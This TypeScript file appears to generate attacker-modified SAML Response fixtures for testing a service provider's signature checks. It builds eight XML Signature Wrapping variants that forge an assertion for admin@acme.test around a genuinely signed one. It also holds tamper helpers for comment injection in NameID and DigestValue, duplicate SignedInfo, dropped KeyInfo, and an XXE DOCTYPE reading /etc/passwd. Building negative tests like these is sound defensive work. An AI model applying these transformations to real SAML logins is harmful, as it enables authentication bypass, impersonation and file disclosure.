// Attacker transformations of a genuinely signed Response, named like the fixtures they make
// (response.xsw3.forged-assertion-before-signed.xml ...). DOM edits with @xmldom/xmldom; the
// signed bytes are never re-signed, which is the point.
import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

const SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
const SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";
const DS = "http://www.w3.org/2000/09/xmldsig#";
export const EVIL = "admin@acme.test";

const parse = (xml: string) => new DOMParser().parseFromString(xml, "text/xml");
const serialize = (node: Node) => new XMLSerializer().serializeToString(node);
const children = (el: Element, ns: string, name: string) =>
  Array.from(el.childNodes).filter(
    (n): n is Element =>
      n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === name,
  );
const one = (el: Element, ns: string, name: string) => children(el, ns, name)[0] as Element;

function parts(xml: string) {
  const doc = parse(xml);
  const root = doc.documentElement;
  const assertion = one(root, SAML, "Assertion");
  return { doc, root, assertion };
}

/** A copy of the assertion naming the attacker's chosen victim, without (or with) its signature. */
function evilCopy(assertion: Element, opts: { keepSignature: boolean; id?: string }): Element {
  const evil = assertion.cloneNode(true) as Element;
  if (!opts.keepSignature) for (const s of children(evil, DS, "Signature")) evil.removeChild(s);
  if (opts.id) evil.setAttribute("ID", opts.id);
  const nameId = one(one(evil, SAML, "Subject"), SAML, "NameID");
  nameId.textContent = EVIL;
  return evil;
}

function dsObject(doc: Document, content: Node): Element {
  const obj = doc.createElementNS(DS, "ds:Object");
  obj.appendChild(content);
  return obj;
}

export const XSW: Record<string, (xml: string) => string> = {
  // XSW1: forged unsigned Response; the signed original hides in its Signature's Object.
  "response.xsw1.signed-response-inside-signature-object.xml": (xml) => {
    const { doc, root } = parts(xml);
    const forged = root.cloneNode(true) as Element;
    const sig = one(forged, DS, "Signature");
    forged.replaceChild(
      evilCopy(one(forged, SAML, "Assertion"), { keepSignature: false, id: "_evil1" }),
      one(forged, SAML, "Assertion"),
    );
    forged.setAttribute("ID", "_forged-response");
    sig.appendChild(dsObject(doc, root.cloneNode(true)));
    return serialize(forged);
  },
  // XSW2: as XSW1 but the signed original sits beside the signature (detached).
  "response.xsw2.signed-response-before-signature.xml": (xml) => {
    const { root } = parts(xml);
    const forged = root.cloneNode(true) as Element;
    const sig = one(forged, DS, "Signature");
    forged.replaceChild(
      evilCopy(one(forged, SAML, "Assertion"), { keepSignature: false, id: "_evil2" }),
      one(forged, SAML, "Assertion"),
    );
    forged.setAttribute("ID", "_forged-response");
    forged.insertBefore(root.cloneNode(true), sig);
    return serialize(forged);
  },
  // XSW3: forged assertion inserted before the signed one.
  "response.xsw3.forged-assertion-before-signed.xml": (xml) => {
    const { root, assertion } = parts(xml);
    root.insertBefore(evilCopy(assertion, { keepSignature: false, id: "_evil3" }), assertion);
    return serialize(root);
  },
  // XSW4: the signed assertion wrapped inside the forged one.
  "response.xsw4.signed-assertion-inside-forged.xml": (xml) => {
    const { root, assertion } = parts(xml);
    const evil = evilCopy(assertion, { keepSignature: false, id: "_evil4" });
    root.replaceChild(evil, assertion);
    evil.appendChild(assertion);
    return serialize(root);
  },
  // XSW5: forged assertion carries the original signature; the original is appended after it.
  "response.xsw5.forged-carries-signature-original-after.xml": (xml) => {
    const { root, assertion } = parts(xml);
    const evil = evilCopy(assertion, { keepSignature: true });
    root.replaceChild(evil, assertion);
    root.appendChild(assertion);
    return serialize(root);
  },
  // XSW6: forged assertion with the signature, the original inside that signature's Object.
  "response.xsw6.original-inside-forged-signature-object.xml": (xml) => {
    const { doc, root, assertion } = parts(xml);
    const evil = evilCopy(assertion, { keepSignature: true });
    root.replaceChild(evil, assertion);
    one(evil, DS, "Signature").appendChild(dsObject(doc, assertion));
    return serialize(root);
  },
  // XSW7: the signed original moved into an Extensions element; forged assertion in its place.
  "response.xsw7.original-in-extensions.xml": (xml) => {
    const { doc, root, assertion } = parts(xml);
    const ext = doc.createElementNS(SAMLP, "samlp:Extensions");
    root.replaceChild(evilCopy(assertion, { keepSignature: false }), assertion);
    ext.appendChild(assertion);
    root.insertBefore(ext, one(root, SAMLP, "Status"));
    return serialize(root);
  },
  // XSW8: forged assertion with a copied signature whose Object holds the unsigned original.
  "response.xsw8.original-in-object-of-forged-signature.xml": (xml) => {
    const { doc, root, assertion } = parts(xml);
    const evil = evilCopy(assertion, { keepSignature: true });
    const original = assertion.cloneNode(true) as Element;
    for (const s of children(original, DS, "Signature")) original.removeChild(s);
    one(evil, DS, "Signature").appendChild(dsObject(doc, original));
    root.replaceChild(evil, assertion);
    return serialize(root);
  },
};

export const tamper = {
  nameIdEdited: (xml: string, from: string) => xml.replace(`>${from}</`, `>${EVIL}</`),
  /** The IdP signed "<victim>.evil.test"; a comment makes naive readers see "<victim>". */
  commentInNameId: (xml: string, signedName: string, visible: string) =>
    xml.split(`>${signedName}</`).join(`>${visible}<!---->${signedName.slice(visible.length)}</`),
  commentInDigestValue: (xml: string) => xml.replace(/(<(?:\w+:)?DigestValue>)([^<]{4})/, "$1$2<!-- x -->"),
  twoSignedInfo: (xml: string) => {
    const { root, assertion } = parts(xml);
    const sig = one(assertion, DS, "Signature");
    const signedInfo = one(sig, DS, "SignedInfo");
    sig.insertBefore(signedInfo.cloneNode(true), signedInfo);
    return serialize(root);
  },
  twoRoots: (xml: string) => `${xml.replace(/^<\?xml[^>]*>\s*/, "")}<samlp:Response xmlns:samlp="${SAMLP}"/>`,
  doctype: (xml: string) =>
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${xml.replace(/^<\?xml[^>]*>\s*/, "")}`,
  dropKeyInfo: (xml: string) => xml.replace(/<(\w+:)?KeyInfo>[\s\S]*?<\/(\w+:)?KeyInfo>/g, ""),
  setDestination: (xml: string, destination: string) =>
    xml.replace(/Destination="[^"]*"/, `Destination="${destination}"`),
};
